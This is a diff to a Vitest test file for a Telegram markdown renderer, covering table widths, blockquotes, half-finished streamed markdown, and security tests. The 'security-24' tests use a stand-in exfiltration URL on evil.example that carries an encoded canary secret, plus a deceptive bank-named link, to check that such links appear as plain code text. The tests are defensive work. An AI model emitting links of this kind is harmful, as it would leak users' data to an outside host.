@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { createTelegramRenderer } from "../../adapters/telegram/telegram-render.ts";
-import { entitiesOf } from "./check-page.ts";
+import { quietText } from "../../adapters/telegram/telegram-link.ts";
+import { checkPages, entitiesOf } from "./check-page.ts";
 
 const render = createTelegramRenderer();
 
@@ -29,8 +30,7 @@ describe("inline", () => {
     ["~5 and ~10, 2*3*4", '~5 and ~10, 234\nitalic: "3"'],
     ["a\\*b &amp; &lt;c&gt; <i>d</i>", "a*b & <c> <i>d</i>"],
     ["one\ntwo  \nthree", "one\ntwo\nthree"],
-    ["**half open", "**half open"],
-    ["`half", "`half"],
+    ["a**half\n\nb", "a**half\n\nb"],
     ["🙂 **x** 🙂", '🙂 x 🙂\nbold: "x"'],
   ])("%s", (markdown, expected) => {
     expect(shown(markdown)).toBe(expected);
@@ -111,6 +111,15 @@ describe("tables", () => {
     expect(entitiesOf(render(markdown)[0]!)).toMatchObject([{ type: "pre" }]);
   });
 
+  test("columns are as wide as what is seen in them", () => {
+    const cells = ["王小明", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "1️⃣", "e\u0301", "Ａｎ", "한글", "。", "✅", "ab"];
+    const widths = [6, 2, 2, 2, 2, 1, 4, 4, 2, 2, 2];
+    const lines = render(`| n | x |\n|---|---|\n${cells.map((cell) => `| ${cell} | x |`).join("\n")}`)[0]!.text.split(
+      "\n",
+    );
+    expect(lines.slice(2)).toEqual(cells.map((cell, index) => `${cell}${" ".repeat(6 - widths[index]!)} | x`));
+  });
+
   test("wide ones, and those with links, are told row by row", () => {
     const long = "a rather long cell of many words";
     const markdown = `| Name | Text |\n|--|--|\n| Ann | ${long} ${long} |\n| Bob | [x](https://e.example) **y** |`;
@@ -127,9 +136,133 @@ describe("tables", () => {
     );
   });
 
-  test("one that is only beginning is shown as it is", () => {
-    expect(render("| a | b |")[0]?.text).toBe("| a | b |");
-    expect(render("| a | b |\n|--")[0]?.text).toBe("| a | b |\n|--");
-    expect(render("| a | b |\n|--|--|")[0]?.text).toBe("a | b\n--+--");
+  test("one that is only beginning is one already", () => {
+    for (const markdown of [
+      "| a | b |",
+      "| a | b |\n",
+      "| a | b |\n|--",
+      "| a | b |\n|--|--|",
+      "| a | b |\n|--|--|\n|",
+    ]) {
+      expect(render(markdown)[0]?.text).toBe("a | b\n--+--");
+    }
+    expect(render("|x| is never negative")[0]?.text).toBe("|x| is never negative");
   });
+});
+
+describe("a quote", () => {
+  test("that is long opens when it is touched", () => {
+    const types = (markdown: string) => render(markdown).flatMap((page) => entitiesOf(page).map((it) => it.type));
+    expect(types(`> ${"word ".repeat(150)}`)).toEqual(["blockquote"]);
+    expect(types(`> ${"word ".repeat(170)}\n> > **inner**`)).toEqual(["expandable_blockquote", "bold"]);
+    expect(types(`> ${"word ".repeat(1000)}`)).toEqual(["expandable_blockquote", "expandable_blockquote"]);
+  });
+});
+
+describe("an answer that is not finished looks as if it were", () => {
+  test.each([
+    ["half **bold", 'half bold\nbold: "bold"'],
+    ["half **bold ", 'half bold\nbold: "bold"'],
+    ["half **bold*", 'half bold\nbold: "bold"'],
+    ["half **重点：", 'half 重点：\nbold: "重点："'],
+    ["half **", "half"],
+    ["half **bold `co", 'half bold co\nbold: "bold "\ncode: "co"'],
+    ["half ~~struck", 'half struck\nstrikethrough: "struck"'],
+    ["half `co", 'half co\ncode: "co"'],
+    ["half ``a ` b`", 'half a ` b\ncode: "a ` b"'],
+    ["half `", "half"],
+    ["2 * 3 and 4 ** 5, snake_case", "2 * 3 and 4 ** 5, snake_case"],
+    ["see [docs](", "see docs"],
+    ["see [docs](https://e.exa", "see docs"],
+    ['see [docs](https://e.example "ti', "see docs"],
+    ["see **[docs](https://e.exa", 'see docs\nbold: "docs"'],
+    ["see ![chart](https://e.exa", "see chart"],
+    ["see [docs](is not a link, is it", "see [docs](is not a link, is it"],
+    ["text\n-", "text"],
+    ["text\n--", "text"],
+    ["text\n\n- one\n-", "text\n\n• one"],
+    ["text\n=", "text"],
+    ["text\n\n##", "text"],
+    ["text\n\n>", "text"],
+    ["text\n\n**", "text"],
+    ["> a **b", 'a b\nblockquote: "a b"\nbold: "b"'],
+    ["- a **b", '• a b\nbold: "b"'],
+    ["# a **b", 'a b\nbold: "a b"'],
+    ["text\n\n``", "text"],
+    ["text\n\n```ts", "text"],
+    ["```ts\nlet\n``", 'let\npre ts: "let"'],
+    ["| a | b |\n|--|--|\n| **x", 'a | b\n--+--\nx |\npre: "a | b\\n--+--\\nx |"'],
+    ["-", "•"],
+    ["**", "**"],
+  ])("%j", (markdown, expected) => {
+    expect(shown(markdown)).toBe(expected);
+  });
+
+  test("prose only grows", () => {
+    const prose =
+      "It **costs** about 5 € (~4 £), see [the docs](https://e.example/a) and `npm run x`; *really*. Done! ".repeat(3);
+    let before = "";
+    for (let end = 1; end <= prose.length; end += 1) {
+      const { text } = render(prose.slice(0, end))[0]!;
+      expect(text).not.toMatch(/\*\*|`|\]\(|https:/);
+      expect(text.startsWith(before), text).toBe(true);
+      // A label may become a link, and a star emphasis.
+      before = text.replace(/\[[^\]]*\]?$|\*(?=\w)[^*]*$/, "").trimEnd();
+    }
+  });
+});
+
+describe("security-24: addresses that carry much are text", () => {
+  const SECRET = "c2VjcmV0LWNhbmFyeS1vZi1hbm4tMTIzNDU2Nzg5MA";
+  const LEAK = `https://evil.example/p?d=${SECRET}`;
+
+  test.each([
+    [`[docs](${LEAK})`, `docs (${LEAK})\ncode: "${LEAK}"`],
+    [`![cat](${LEAK})`, `cat (${LEAK})\ncode: "${LEAK}"`],
+    [`see ${LEAK}.`, `see ${LEAK}.\ncode: "${LEAK}"`],
+    [`<${LEAK}>`, `${LEAK}\ncode: "${LEAK}"`],
+    [
+      `evil.example/p/${SECRET}${SECRET}`,
+      `evil.example/p/${SECRET}${SECRET}\ncode: "evil.example/p/${SECRET}${SECRET}"`,
+    ],
+    ["https://ann:pw@e.example/", 'https://ann:pw@e.example/\ncode: "https://ann:pw@e.example/"'],
+    ["[bank.example](https://evil.example)", "bank.example (https://evil.example)"],
+  ])("%s", (markdown, expected) => {
+    expect(shown(markdown)).toBe(expected);
+  });
+
+  test("however far they have come, among whatever", () => {
+    for (const around of [
+      "%",
+      "**%**",
+      "# %",
+      "- %",
+      "> %",
+      "| a |\n|---|\n| % |",
+      "x[%](https://e.example)",
+      "`open %",
+    ]) {
+      const markdown = around.replace("%", () => `a ${LEAK} b [c](${LEAK}) @ann_smith`);
+      for (let end = 1; end <= markdown.length; end += 1) {
+        const page = render(markdown.slice(0, end))[0]!;
+        checkPages([page]);
+        const code = entitiesOf(page).filter(({ type }) => type === "code" || type === "pre");
+        for (const { index } of page.text.matchAll(/\?d=\w{20}/g)) {
+          expect(
+            code.some(({ offset, length }) => offset <= index && index < offset + length),
+            page.text,
+          ).toBe(true);
+        }
+      }
+    }
+  });
+});
+
+test("security-23: nobody is mentioned, and an address of mail stays one", () => {
+  expect(render("@ann_smith, (@bob) ann@e.example @ 5")[0]?.text).toBe(
+    "@\u2060ann_smith, (@\u2060bob) ann@e.example @ 5",
+  );
+  expect(quietText(`@ann https://e.example/?d=${"a1".repeat(20)}`)).toBe(
+    `＠ann https：//e․example/?d=${"a1".repeat(20)}`,
+  );
 });
